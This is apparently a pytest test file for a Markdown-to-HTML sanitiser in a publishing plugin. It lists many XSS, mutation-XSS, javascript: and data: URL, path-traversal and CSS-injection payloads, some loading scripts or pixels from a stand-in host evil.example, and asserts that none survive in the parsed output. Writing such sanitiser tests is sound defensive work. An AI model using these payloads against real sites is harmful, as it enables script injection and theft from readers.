"""Nothing an author writes, or pastes unseen, can run, frame, track or restyle a reader's page.

Every string is our own, in the families that published lists of attacks know.
The output is parsed, as a browser would, and judged by what stands in it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from lxml import html as lxml_html

from plugins.posts import BodyReader
from plugins.posts.markup.tags import TAGS

PATH = "tin-hoat-dong/2021/kiem-tra.md"
READER = BodyReader()

# Ours: what the last pass adds.
OURS = {"div", "section", "span"}
ATTRIBUTES = {
    "href",
    "title",
    "rel",
    "src",
    "alt",
    "id",
    "class",
    "role",
    "aria-label",
    "tabindex",
    "scope",
    "colspan",
    "rowspan",
    "start",
}
CLASSES = {
    "table",
    "crowded",
    "enumerated",
    "nobreak",
    "footnotes",
    "footnote-ref",
    "align-right",
    "align-center",
    "ordinal",
    "word",
    "phrase",
    "sentence",
}
ROLES = {"region", "doc-endnotes", "doc-backlink", "doc-noteref"}
LINK = re.compile(r"(?:https?://|mailto:|tel:|/(?![/\\])|#)", re.IGNORECASE)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<p onmouseover="alert(1)">a</p>',
    "<a href='/' onclick='alert(1)'>a</a>",
    "<p/onpointerenter=alert(1)>a</p>",
    "<b\tonfocus=alert(1)\ttabindex=1\tautofocus>a</b>",
    "<b\x0confocus=alert(1) autofocus>a</b>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>a</td></tr></table>",
    "<details open ontoggle=alert(1)>a</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<p style=animation-name:x onanimationstart=alert(1)>a</p>",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</p><script>alert(1)</script><p>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
)
ADDRESSES = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1) )",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/1)",
    "[a](view-source:javascript:alert(1))",
    "[a](jar:javascript:alert(1)!/)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a](/%5cevil.example)",
    "[a](/%0a/evil.example)",
    "<javascript:alert(1)>",
    "<javascript://x@y.example>",
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    "<a href='javascript&NewLine;:alert(1)'>a</a>",
    "<a href=javascript&Tab;:alert(1)>a</a>",
    "<a xlink:href='javascript:alert(1)'>a</a>",
    "<a href='picture:anh/2021/a.jpg'>a</a>",
    "<a href=x ping=https://evil.example download>a</a>",
    "<a href='https://evil.example' target=_blank rel=opener>a</a>",
)
REFERENCES = (
    "[a][b]\n\n[b]: javascript:alert(1)",
    '[a][b]\n\n[b]: <javascript:alert(1)> "t"',
    '![a][b]\n\n[b]: data:image/svg+xml,<svg/onload=alert(1)> "t"',
    '[a](/ "x" onmouseover="alert(1)")',
    "[a](/ 'x\"><img src=x onerror=alert(1)>')",
    '[a](/ "x&quot; onmouseover=&quot;alert(1)")',
    '[a"><img src=x onerror=alert(1)>](/)',
    '[a](/" onmouseover="alert(1))',
    "<a title='x\" onmouseover=\"alert(1)' href='/'>a</a>",
)
PICTURES = (
    "![a b c](javascript:alert(1))",
    "![a b c](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a b c](https://evil.example/pixel.gif)",
    "![a b c](//evil.example/pixel.gif)",
    '![x" onerror="alert(1)](anh/2021/a.jpg)',
    '![x](anh/2021/a.jpg" onerror="alert(1))',
    '![a b c](anh/2021/a.jpg "t" onerror="alert(1)")',
    "![a b c](anh/2021/a.jpg '</figcaption><script>alert(1)</script>')",
    "![a b c](anh/../../.env)",
    "![a b c](anh/%2e%2e/%2e%2e/.env)",
    "<img src=picture:../../.env alt='a b c'>",
    "<img src='anh/2021/a.jpg' alt='a b c' srcset='https://evil.example/x 1x' loading=eager>",
    "<img alt='`><script>alert(1)</script>' src=anh/2021/a.jpg>",
    "<picture><source srcset=https://evil.example/x><img src=anh/2021/a.jpg alt='a b'></picture>",
    "<image src=x onerror=alert(1)>",
)
FOREIGN = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
)
FRAMES_AND_STYLE = (
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<p style='width:expression(alert(1))'>a</p>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<div class='table' role=region style=x>a</div>",
    "<form action=https://evil.example><button>a</button></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<p id=muc-x name=x class=masthead>a</p>",
    "<p contenteditable draggable data-x=1 aria-hidden=true>a</p>",
)
MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<p title='</noembed><img src=x onerror=alert(1)>'>a</p>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table><td><p><img src=x onerror=alert(1)></table>",
    '<a href="a"title="b"onclick="alert(1)">a</a>',
    "<b <script>alert(1)</script>>a</b>",
    '<p "="><img src=x onerror=alert(1)>">a</p>',
    "<<p onclick=alert(1)>a",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
NOTES_AND_MARKS = (
    "a[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: b",
    'a[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: b',
    "a[^1]\n\n[^1]: <script>alert(1)</script> [b](javascript:alert(1))",
    "a[^1]\n\n[^1]: </li></ol></section><script>alert(1)</script>",
    "a\ue0000\ue001 b\n\n<p>\ue000n0\ue001</p>\n\n<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03 <script>alert(1)</script>",
    "\x02amp\x03#106;avascript:alert(1)",
    '## <img src=x onerror=alert(1)>\n\n### a" onclick="alert(1)',
    "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=b> | [a](javascript:b) |",
    "| a |\n|:-:|\n| <td align='center\" onclick=alert(1)'>b |",
    "<ol start='1\" onclick=\"alert(1)'><li>a</li></ol>",
    "<th scope='col\" onclick=\"alert(1)'>a</th>",
)
ATTACKS = (
    *HANDLERS,
    *SCRIPTS,
    *ADDRESSES,
    *REFERENCES,
    *PICTURES,
    *FOREIGN,
    *FRAMES_AND_STYLE,
    *MUTATIONS,
    *NOTES_AND_MARKS,
)


class _Parsed(HTMLParser):
    """Every element of a text as the standard library reads it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.oddities: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    def handle_decl(self, decl: str) -> None:
        self.oddities.append(decl)

    def handle_pi(self, data: str) -> None:
        self.oddities.append(data)

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(data)


def _elements(text: str) -> list[tuple[str, dict[str, str]]]:
    """What two parsers find, so that what one forgives the other may catch."""
    parsed = _Parsed(text)
    assert parsed.oddities == []
    tree = lxml_html.fragment_fromstring(text, create_parent="main")
    found = [(e.tag, dict(e.attrib)) for e in tree.iterdescendants()]
    return parsed.elements + found


def judge(text: str) -> None:
    """Fails when anything in ``text`` could act, load or lead where it must not."""
    for tag, attributes in _elements(text):
        assert tag in (TAGS - {"h1", "h5", "h6"}) | OURS
        assert attributes.keys() <= ATTRIBUTES
        if "href" in attributes:
            href = attributes["href"]
            assert LINK.match(href), href
            assert not re.search(r"[\x00-\x20\\]", href.removeprefix("https:")), href
            if href.lower().startswith("http"):
                assert attributes.get("rel") == "noopener noreferrer"
        if tag == "img":
            assert attributes.keys() == {"src", "alt"}
            assert re.fullmatch(r"picture:anh/.+", attributes["src"])
            assert ".." not in attributes["src"].split("/")
        if "id" in attributes:
            assert re.fullmatch(r"(?:muc|dan|chu-thich)-[a-z0-9-]+", attributes["id"])
        assert set(attributes.get("class", "table").split()) <= CLASSES
        assert attributes.get("role", "region") in ROLES
        assert attributes.get("scope", "col") in {"col", "row", "colgroup", "rowgroup"}


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("around", ["{}", "Đoàn kiểm tra {} làm việc.", "- {}\n- b", "> {}"])
def test_no_attack_survives(attack: str, around: str) -> None:
    body, _ = READER.read(around.format(attack), path=PATH)
    judge(body.html)


def test_the_attacks_together_do_no_more_than_one_by_one() -> None:
    body, _ = READER.read("\n\n".join(ATTACKS), path=PATH)
    judge(body.html)


@pytest.mark.parametrize("attack", [*HANDLERS, *SCRIPTS[:4], *ADDRESSES[:6], *FRAMES_AND_STYLE])
def test_an_officer_is_told_of_what_was_taken_out(attack: str) -> None:
    _, problems = READER.read(f"Chữ.\n\n{attack}", path=PATH)
    assert problems
    assert all(p.line in {1, 2, 3, 4} for p in problems)


@pytest.mark.parametrize(
    "text",
    [
        "<p><script>alert(1)</script></p>",
        '<p onclick="x">a</p>',
        '<a href="javascript:x">a</a>',
        '<a href="//evil.example">a</a>',
        '<a href="https://evil.example">a</a>',
        '<img src="https://evil.example/x" alt="a">',
        '<img src="picture:anh/../x" alt="a">',
        '<p class="masthead">a</p>',
        '<p id="main">a</p>',
        "<!-- a -->",
    ],
)
def test_the_judge_would_notice(text: str) -> None:
    with pytest.raises(AssertionError):
        judge(text)
